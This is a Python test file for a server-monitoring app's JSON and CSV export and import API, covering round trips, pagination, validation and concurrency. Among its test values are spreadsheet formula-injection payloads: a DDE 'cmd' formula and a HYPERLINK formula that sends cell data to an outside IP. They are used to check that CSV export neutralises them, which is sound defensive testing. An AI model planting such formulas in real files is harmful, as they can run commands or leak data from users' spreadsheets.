"""Export and import: what comes out of one instance is what is in the other."""

import csv
import io
import json
import random
from collections import defaultdict
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, date, datetime, time, timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import delete, func, select, text

from core.checks.records import Ping, Probe, quantised_ms
from core.clock import utc_now
from core.export import give as export_give
from core.export import take as export_take
from core.history import figures, slices
from core.history import upkeep as history_upkeep
from core.models import Day, Schedule, Server, StoredPing
from core.reading import iso
from core.rounds import record as rounds_record
from core.servers import change, parents, schedule, tags
from core.servers.records import ServerWanted
from core.settings import Settings
from handlers.http.app import create_app
from handlers.worker import upkeep as worker_upkeep
from infra import migrations
from infra.database import Database
from tests.counts import count
from tests.handlers.conftest import Rows
from tests.handlers.histories import IP, MINUTE, add, record, record_minutes, this_slot
from tests.handlers.http.test_servers import problem
from tests.infra import rows
from tests.infra.databases import away_after_the_first, names, opened
from tests.instances import instance

EXPORT, IMPORT = "/api/v1/export", "/api/v1/import"
JSON, CSV = "application/json", "text/csv"
LIMIT = 1_000_000
STRANGE = [
    'a "quoted", name',
    "=cmd|' /C calc'!A0",
    "right to left \u05e9\u05e8\u05ea",
    "n" * 255,
    "\U0001f600",
    "a/b%2F",
]


@pytest.fixture
def other(
    settings: Settings, tmp_path: Any, request: pytest.FixtureRequest
) -> Iterator[FlaskClient]:
    """Another, empty instance on the same kind of database."""
    if settings.database_url.startswith("sqlite"):
        url = f"sqlite:///{tmp_path}/other.db"
        app = create_app(replace(settings, database_url=url))
        yield app.test_client()
    else:
        cluster = request.getfixturevalue("postgres")
        engine = Database(settings).engine
        with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
            connection.execute(text("DROP DATABASE IF EXISTS other"))
            connection.execute(text("CREATE DATABASE other"))
        engine.dispose()
        app = create_app(replace(settings, database_url=cluster.url("other")))
        migrations.upgrade(app.extensions["pinglet"].database.engine)
        yield app.test_client()
    app.extensions["pinglet"].database.engine.dispose()


def pages(client: FlaskClient, kind: str = JSON) -> list[bytes]:
    """Return every page of an export."""
    found = []
    target = EXPORT
    while target:
        response = client.get(target, headers={"Accept": kind})
        assert response.status_code == 200
        assert response.mimetype == kind
        assert len(response.data) < LIMIT
        found.append(response.data)
        link = response.headers.get("Link", "")
        target = link.partition("<")[2].partition(">")[0]
        if kind == JSON:
            after = response.get_json()["next"]
            assert (after is None) == (not target)
    return found


def take(client: FlaskClient, page: bytes, kind: str = JSON) -> dict[str, int]:
    """Import a page; return what was new."""
    response = client.post(IMPORT, data=page, content_type=kind)
    assert response.status_code == 200, response.data
    body: dict[str, int] = response.get_json()
    return body


def known(client: FlaskClient, window_days: int = 700) -> list[object]:
    """Return all that an instance knows, without its ids, as it is at the end of this day."""
    database: Database = client.application.extensions["pinglet"].database
    now = datetime.combine(utc_now() + timedelta(days=1), time(), UTC)
    found: list[object] = []
    with database.reading() as session:
        all_servers = session.scalars(select(Server).order_by(Server.id)).all()
        ids = [server.id for server in all_servers]
        schedules = defaultdict(list)
        columns = (Schedule.server_id, Schedule.since, Schedule.interval_s, Schedule.enabled)
        for server_id, *planned in session.execute(select(*columns).order_by(*columns)):
            schedules[server_id].append(planned)
        all_kept = slices.full_pages(session, ids, 0, None, 1_000_000)
        tagged, behind = tags.of(session), parents.by_name(session)
        for server in all_servers:
            own = (
                *(server.name, server.ip, server.added, server.probe, server.port),
                *(server.last_slot, server.last_ms, server.last_sent, server.last_received),
                *(server.last_port, tagged.get(server.id), behind.get(server.name)),
            )
            kept = all_kept[server.id]
            since = datetime.fromtimestamp(0, UTC) if not kept else server.added
            window = max(since, now - timedelta(days=window_days)), now
            found.append((own, schedules[server.id], kept))
            found.append(figures.summary(session, server, *window, now))
    return found


def told(exported: list[bytes]) -> list[object]:
    """Return what pages say, wherever they are cut: that depends on what is packed already."""
    read = [json.loads(page) for page in exported]
    return [item for kind in ("servers", "parents", "days") for page in read for item in page[kind]]


def a_history(client: FlaskClient, seed: int) -> None:
    """Give an instance servers with schedules, pauses, raw and packed pings."""
    database: Database = client.application.extensions["pinglet"].database
    chance = random.Random(seed)
    now = utc_now()
    first = this_slot() - timedelta(days=6)
    with database.transaction() as session:
        added = [
            change.add(
                session, _wanted(chance, name), database.settings, first + chance.random() * MINUTE
            )
            for name in (*STRANGE, "never pinged", "web")
        ]
        # Also behind those that come later.
        parents.put(session, {one: "web" for one in added[:-1] if chance.random() < 0.7})
        for server in added[::2]:
            paused = first + timedelta(days=chance.uniform(1, 3))
            schedule.reschedule(session, {server: {"enabled": False}}, paused)
            slower = {"enabled": True, "interval_s": 300}
            schedule.reschedule(session, {server: slower}, paused + timedelta(hours=2))
        ids = [server_id for server_id in added if server_id != added[-2]]
    slot = first
    while slot < now:
        measured = [_ping(chance, server_id) for server_id in ids if chance.random() < 0.8]
        with database.transaction() as session:
            rounds_record.record(session, slot, measured)
        slot += chance.choice([1, 1, 2, 500]) * MINUTE
    with database.transaction() as session:
        for day in history_upkeep.raw_dates(session, (now - timedelta(days=1)).date()):
            history_upkeep.pack(session, day, ids)
            history_upkeep.forget_pings(session, day, 0, chance.choice([700, 1_440]))


def _wanted(chance: random.Random, name: str) -> ServerWanted:
    probe = chance.choice(list(Probe))
    port = chance.randint(1, 65_535) if chance.random() < 0.5 else None
    tagged = tuple(sorted(chance.sample(["eu", "us", "web", "-", "rack_4.2"], chance.randrange(4))))
    return ServerWanted(name=name, ip=IP, probe=probe, port=port, tags=tagged)


def _ping(chance: random.Random, server_id: int) -> Ping:
    received = chance.choice([0, 1, 4, 4])
    times = sorted(quantised_ms(chance.lognormvariate(3, 2)) for _ in range(3))
    best, mean, worst = times if received and chance.random() < 0.95 else (None, None, None)
    return Ping(server_id, IP, 4, received, mean, best, worst, Probe.TCP, 443)


def test_an_import_into_an_empty_instance_is_the_same_again(
    client: FlaskClient, other: FlaskClient
) -> None:
    a_history(client, seed=1)
    for page in pages(client):
        take(other, page)
    assert known(other) == known(client)
    assert told(pages(other)) == told(pages(client))


def test_a_page_that_comes_twice_changes_nothing(client: FlaskClient, other: FlaskClient) -> None:
    a_history(client, seed=2)
    exported = pages(client)
    for page in exported:
        take(other, page)
    before = known(other)
    for page in [*exported[::-1], *exported]:
        assert take(other, page) == {"servers": 0, "schedules": 0, "pings": 0}
    assert known(other) == before


def test_every_page_fits_the_limit_of_a_body(
    client: FlaskClient, database: Database, other: FlaskClient, monkeypatch: Any
) -> None:
    add(client, *(f"{number:04}{'n' * 240}" for number in range(1_200)))
    ids = list(range(1, 41))
    record_minutes(database, ids, this_slot() - 60 * MINUTE, 60)
    monkeypatch.setattr(export_give, "BUDGET", 100_000)
    exported = pages(client)
    assert len(exported) > 5
    assert max(len(page) for page in exported) < 200_000
    for page in exported:
        take(other, page)
    assert known(other, window_days=1) == known(client, window_days=1)


def test_a_server_that_comes_while_an_export_runs_is_left_for_the_next(
    client: FlaskClient, database: Database, other: FlaskClient, monkeypatch: Any
) -> None:
    ids = add(client, "a", "b")
    record_minutes(database, ids, this_slot() - 10 * MINUTE, 10)
    monkeypatch.setattr(export_give, "BUDGET", 300)
    first = client.get(EXPORT)
    second = client.get(f"{EXPORT}?after={first.get_json()['next']}").get_json()
    late = add(client, "late")
    record(database, late, this_slot(), (4, 1.0))
    take(other, first.data)
    exported = [second]
    while exported[-1]["next"]:
        exported.append(client.get(f"{EXPORT}?after={exported[-1]['next']}").get_json())
    for page in exported:
        take(other, json.dumps(page).encode())
    assert "late" not in json.dumps(exported)
    assert client.get("/").get_json()["servers"] == ["a", "b", "late"]


def test_an_instance_that_is_at_work_keeps_its_own_word(
    client: FlaskClient, other: FlaskClient
) -> None:
    [server_id] = add(client, "web")
    client.patch(f"/api/v1/servers/{server_id}", json={"interval_s": 300, "port": 80})
    [there] = add(other, "web", ip="127.0.0.9")
    before = other.get(f"/api/v1/servers/{there}").get_json()
    taken = take(other, pages(client)[0])
    assert taken["servers"] == 0
    assert other.get(f"/api/v1/servers/{there}").get_json() == before


def test_a_day_that_was_packed_counts_what_was_due_there_before_it_came_here(
    client: FlaskClient, database: Database
) -> None:
    """It began here at noon; the other instance's schedule says that the morning was due, too."""
    noon = (this_slot() - timedelta(days=9)).replace(hour=12, minute=0)
    planned = {"since": iso(noon), "interval_s": 60, "enabled": True}
    web = {"name": "web", "ip": IP, "added": iso(noon), "schedule": [planned]}
    take(client, json.dumps({"servers": [web]}).encode())
    [server] = client.get("/api/v1/servers").get_json()["servers"]
    record_minutes(database, [server["id"]], noon, 3)
    for step in worker_upkeep.plan(instance(database), utc_now()):
        step()
    path = f"/api/v1/servers/{server['id']}/summary"
    day = noon.replace(hour=0)
    window = {"since": iso(day), "until": iso(day + timedelta(days=1))}
    assert client.get(path, query_string=window).get_json()["counts"]["due"] == 720
    earlier = web | {"schedule": [planned | {"since": iso(noon - timedelta(hours=5))}]}
    take(client, json.dumps({"servers": [earlier]}).encode())
    counts = client.get(path, query_string=window).get_json()["counts"]
    assert (counts["due"], counts["up"], counts["unobserved"]) == (1_020, 3, 1_017)


def test_what_is_older_than_the_raw_rows_is_packed_as_it_comes(
    client: FlaskClient, database: Database, other: FlaskClient
) -> None:
    ids = add(client, "web")
    record_minutes(database, ids, this_slot() - timedelta(days=9), 5)
    record_minutes(database, ids, this_slot() - 4 * MINUTE, 5)
    taken = take(other, pages(client)[0])
    assert taken["pings"] == 10
    with other.application.extensions["pinglet"].database.reading() as session:
        counted = [
            session.scalar(select(func.count()).select_from(table)) for table in (StoredPing, Day)
        ]
    assert counted == [5, 1]


def test_a_server_without_a_schedule_gets_one(client: FlaskClient, database: Database) -> None:
    page = {"servers": [{"name": "web", "ip": IP, "added": "2026-01-01T00:00:00Z"}]}
    assert take(client, json.dumps(page).encode())["schedules"] == 1
    [shown] = client.get("/api/v1/servers").get_json()["servers"]
    assert (shown["interval_s"], shown["enabled"]) == (60, True)


SERVER = {"name": "web", "ip": IP, "added": "2026-01-01T00:00:00Z"}
PLANNED = {"since": "2026-01-01T00:00:00Z", "interval_s": 60, "enabled": True}
LAST = {"slot": "2026-01-01T00:00:00Z", "response_ms": 1.0, "sent": 4, "received": 4}
WRONG: list[tuple[dict[str, object], str]] = [
    ({"servers": [SERVER | {"name": ""}]}, "servers[0].name"),
    ({"servers": [SERVER, SERVER | {"ip": "127.1"}]}, "servers[1].ip"),
    ({"servers": [SERVER | {"ip": "224.0.0.1"}]}, "ip"),
    ({"servers": [SERVER | {"added": "2026-01-01T00:00:00"}]}, "servers[0].added"),
    ({"servers": [SERVER | {"added": "0001-01-01T00:00:00+23:59"}]}, "servers[0].added"),
    ({"servers": [SERVER | {"added": "9999-12-31T23:59:59-23:59"}]}, "servers[0].added"),
    ({"servers": [SERVER | {"added": "8000-01-01T00:00:00Z"}]}, "servers[0].added"),
    ({"servers": [SERVER | {"port": 0}]}, "servers[0].port"),
    ({"servers": [SERVER | {"schedule": [PLANNED | {"interval_s": 61}]}]}, "servers[0].schedule"),
    (
        {"servers": [SERVER | {"last_ping": LAST | {"slot": "2100-01-01T00:00:00Z"}}]},
        "servers[0].last_ping",
    ),
    (
        {"servers": [SERVER | {"last_ping": LAST | {"slot": "2026-01-01T00:00:01Z"}}]},
        "servers[0].last_ping",
    ),
    ({"servers": [SERVER | {"last_ping": LAST | {"received": 5}}]}, "servers[0].last_ping"),
    (
        {
            "days": [
                {"server": "web", "date": "2026-01-01", "pings": [[1440, None, None, None, 4, 0]]}
            ]
        },
        "days[0].pings[0][0]",
    ),
    (
        {"days": [{"server": "web", "date": "2026-01-01", "pings": [[0, 1, 2, 3, 4, 4]]}]},
        "days[0].pings",
    ),
    (
        {"days": [{"server": "web", "date": "2026-01-01", "pings": [[0, 1, None, 3, 4, 4]]}]},
        "days[0].pings",
    ),
    (
        {"days": [{"server": "web", "date": "2026-01-01", "pings": [[0, 1, 1, 3, 4, 0]]}]},
        "days[0].pings",
    ),
    (
        {"days": [{"server": "web", "date": "2026-01-01", "pings": [[0, None, None, None, 0, 0]]}]},
        "days[0].pings",
    ),
    (
        {"days": [{"server": "web", "date": "2100-01-01", "pings": [[0, 1, 1, 1, 4, 4]]}]},
        "days[0].pings",
    ),
    ({"days": [{"server": "web", "date": "1969-01-01", "pings": []}]}, "days[0].date"),
    ({"days": [{"server": "web", "date": "0000-01-01", "pings": []}]}, "days[0].date"),
    (
        {"days": [{"server": "nobody", "date": "2026-01-01", "pings": [[0, 1, 1, 1, 4, 4]]}]},
        "pings",
    ),
    ({"colour": "red"}, "colour"),
]


def test_a_page_that_is_wrong_is_refused_as_a_whole_and_says_where(
    client: FlaskClient, rows: Callable[[], Rows]
) -> None:
    before = rows()
    for page, field in WRONG:
        response = client.post(IMPORT, json={"servers": [SERVER]} | page)
        told = {"days[0].pings", "pings"} if field == "days[0].pings" else {field}
        assert problem(response)[:2] == (400, "WRONG_REQUEST"), page
        assert response.get_json()["field"] in told, page
    assert rows() == before


# CSV: the servers alone, for spreadsheets


def plain(client: FlaskClient) -> list[tuple[object, ...]]:
    """Return what a list says of an instance's servers."""
    fields = ("name", "ip", "probe", "port", "interval_s", "enabled", "tags", "parent")
    found = client.get("/api/v1/servers?limit=1000").get_json()["servers"]
    return [tuple(server[field] for field in fields) for server in found]


def test_a_csv_carries_every_server_as_it_is_wanted(
    client: FlaskClient, other: FlaskClient
) -> None:
    a_history(client, seed=3)
    [page] = pages(client, CSV)
    assert page.splitlines()[0] == b"name,ip,probe,port,interval_s,enabled,tags,parent"
    assert take(other, page, CSV) == {"servers": 8, "schedules": 8, "pings": 0}
    assert plain(other) == plain(client)
    assert pages(other, CSV) == [page]


def test_a_list_in_json_is_taken_like_one_in_csv(client: FlaskClient, other: FlaskClient) -> None:
    a_history(client, seed=3)
    fields = ("name", "ip", "probe", "port", "interval_s", "enabled", "tags", "parent")
    listed = json.dumps([dict(zip(fields, values, strict=True)) for values in plain(client)])
    assert take(other, listed.encode()) == {"servers": 8, "schedules": 8, "pings": 0}
    assert plain(other) == plain(client)


def test_a_name_that_is_a_formula_is_none_in_a_spreadsheet_and_comes_back(
    client: FlaskClient, other: FlaskClient
) -> None:
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1)'
    add(client, formula, "-1+1")
    [page] = pages(client, CSV)
    cells = [row["name"] for row in csv.DictReader(io.StringIO(page.decode()))]
    assert cells == [f"'{formula}", "'-1+1"]
    assert take(other, page, CSV) == {"servers": 2, "schedules": 2, "pings": 0}
    assert plain(other) == plain(client)


def test_a_csv_opens_in_other_programs_and_comes_back_from_them(client: FlaskClient) -> None:
    add(client, 'a "quoted", name')
    [page] = pages(client, CSV)
    [line] = csv.DictReader(io.StringIO(page.decode()))
    assert line == {
        "name": 'a "quoted", name',
        "ip": IP,
        "probe": "auto",
        "port": "",
        "interval_s": "60",
        "enabled": "yes",
        "tags": "",
        "parent": "",
    }
    as_saved = b"\xef\xbb\xbf" + page.replace(b"\n", b"\r\n") + b"new,192.0.2.9\r\n"
    assert take(client, as_saved, CSV) == {"servers": 1, "schedules": 1, "pings": 0}


def test_a_csv_leaves_a_server_that_is_here_as_it_is(client: FlaskClient) -> None:
    add(client, "web")
    before = plain(client)
    listed = b"name,ip,interval_s\nweb,192.0.2.9,300\n"
    assert take(client, listed, CSV) == {"servers": 0, "schedules": 0, "pings": 0}
    assert plain(client) == before


def test_a_csv_comes_in_pages_that_fit_the_limit_of_a_body(
    client: FlaskClient, other: FlaskClient, monkeypatch: Any
) -> None:
    add(client, *(f"{number:03}{STRANGE[-2] * 240}" for number in range(300)))
    monkeypatch.setattr(export_give, "BUDGET", 100_000)
    exported = pages(client, CSV)
    assert len(exported) == 3
    assert sum(take(other, page, CSV)["servers"] for page in exported) == 300
    assert plain(other) == plain(client)


WRONG_CSV = [
    (b"web,192.0.2.9\nbad,127.1\n", "line 2"),
    (b"name,ip,port\nweb,192.0.2.9,70000\n", "line 2"),
    (b"name,ip\nweb,192.0.2.9\nbad,224.0.0.1\n", "line 3"),
    (b"name,ip,colour\nweb,192.0.2.9,red\n", "colour"),
    (b"nonsense\n", None),
    (b"\xff", None),
]


def test_a_csv_that_is_wrong_is_refused_as_a_whole_and_says_where(
    client: FlaskClient, rows: Callable[[], Rows]
) -> None:
    before = rows()
    for page, field in WRONG_CSV:
        response = client.post(IMPORT, data=page, content_type=CSV)
        assert problem(response) == (400, "WRONG_REQUEST", field), page
    assert rows() == before


OLD_CSV = (
    b"record,server,time,ip,probe,port,last_port,interval_s,enabled,"
    b"response_ms,best_ms,worst_ms,sent,received\r\n"
    b"server,web,2026-01-01T00:00:00Z,127.0.0.1,tcp,443,443,,,,,,,\r\n"
    b"last_ping,web,2026-01-01T00:01:00Z,,,,,,,1.5,,,4,4\r\n"
    b"schedule,web,2026-01-01T00:00:00Z,,,,,60,1,,,,,\r\n"
    b"schedule,web,2026-01-02T00:00:00Z,,,,,300,0,,,,,\r\n"
)
OLD_PINGS = b"ping,web,2026-01-01T00:01:00Z,,,,,,,1.5,1.0,2.0,4,4\r\n"


def test_the_csv_of_an_old_release_is_read_for_its_servers(client: FlaskClient) -> None:
    assert take(client, OLD_CSV, CSV) == {"servers": 1, "schedules": 1, "pings": 0}
    assert plain(client) == [("web", IP, "tcp", 443, 300, False, [], None)]


def test_the_pings_of_an_old_csv_are_not_lost_without_a_word(
    client: FlaskClient, rows: Callable[[], Rows]
) -> None:
    before = rows()
    for page in (OLD_CSV + OLD_PINGS, b"\xef\xbb\xbf" + OLD_CSV + OLD_PINGS):
        response = client.post(IMPORT, data=page, content_type=CSV)
        assert problem(response)[:2] == (400, "WRONG_REQUEST")
        assert "format=json" in response.get_json()["detail"]
    assert rows() == before


def test_a_page_of_json_keeps_its_days_whatever_it_is_called(
    client: FlaskClient, database: Database, other: FlaskClient
) -> None:
    record_minutes(database, add(client, "web"), this_slot() - 5 * MINUTE, 5)
    [page] = pages(client)
    assert take(other, page, CSV)["pings"] == 5


def test_the_form_is_chosen_by_what_the_caller_accepts(client: FlaskClient) -> None:
    for accepted, kind in (
        ("text/csv", "text/csv"),
        ("application/json", "application/json"),
        ("*/*", "application/json"),
        ("", "application/json"),
        ("text/csv;q=0.5, application/json", "application/json"),
    ):
        assert client.get(EXPORT, headers={"Accept": accepted}).mimetype == kind
    assert client.get(f"{EXPORT}?format=json", headers={"Accept": "text/csv"}).is_json


def test_a_cursor_that_no_page_gave_is_refused(client: FlaskClient) -> None:
    for after in ("x", "1.", "1.2.3.4", "-1", "1.9999999.1", "1" * 19, "\u0661"):
        for form in ("json", "csv"):
            response = client.get(EXPORT, query_string={"after": after, "format": form})
            assert problem(response) == (400, "WRONG_REQUEST", "after"), after
    assert client.get(f"{EXPORT}?after=1.2899999.5").status_code == 200
    days = client.get(f"{EXPORT}?after=1.2899999.5&format=csv")
    assert problem(days) == (400, "WRONG_REQUEST", "after")


# Beside others


def test_others_write_while_a_page_is_imported(app: Flask) -> None:
    """A page of 900 kB, a ping a day: it took 24 s, and whoever wanted to write had to wait."""
    days, busy = count(2_500, 13_000), app.test_client()
    added = [f"web {number}" for number in range(5)]
    page = {
        "servers": [{"name": "old", "ip": IP, "added": "1985-01-01T00:00:00Z"}],
        "days": [
            {
                "server": "old",
                "date": (date(1985, 1, 1) + timedelta(days=day)).isoformat(),
                "pings": [[day % 1_440, 1.5, 1.0, 2.0, 4, 4]],
            }
            for day in range(days)
        ],
    }
    database: Database = app.extensions["pinglet"].database
    with (
        ThreadPoolExecutor(1) as threads,
        opened(database.settings, statement_timeout_s=1) as quick,
    ):
        importing = threads.submit(take, busy, json.dumps(page, separators=(",", ":")).encode())
        while "old" not in names(quick):
            assert not importing.done()
        for name in added:
            rows.add(quick, name)
        assert not importing.done()
        assert importing.result() == {"servers": 1, "schedules": 1, "pings": days}


def test_an_import_that_is_cut_off_says_what_is_there(app: Flask, client: FlaskClient) -> None:
    database = app.extensions["pinglet"].database
    began = "2026-01-01T00:00:00Z"
    page = {
        "servers": [
            {"name": f"web {number}", "ip": "127.0.0.1", "added": began}
            for number in range(export_take.NEW_AT_ONCE + 1)
        ]
    }
    lines = "".join(f"db {number},127.0.0.1\n" for number in range(change.AT_ONCE + 1))
    for body, kind, there in (
        (json.dumps(page), JSON, export_take.NEW_AT_ONCE),
        (lines, "text/csv", change.AT_ONCE),
    ):
        with away_after_the_first(database):
            cut = client.post("/api/v1/import", data=body, content_type=kind)
        assert (cut.status_code, cut.headers["Retry-After"]) == (503, "5")
        told = cut.get_json()["detail"]
        assert told.startswith(f"the database went away: servers imported so far: {there:,}, ")
        again = client.post("/api/v1/import", data=body, content_type=kind)
        assert again.get_json()["servers"] == 1
        with database.transaction() as session:
            session.execute(delete(Server))
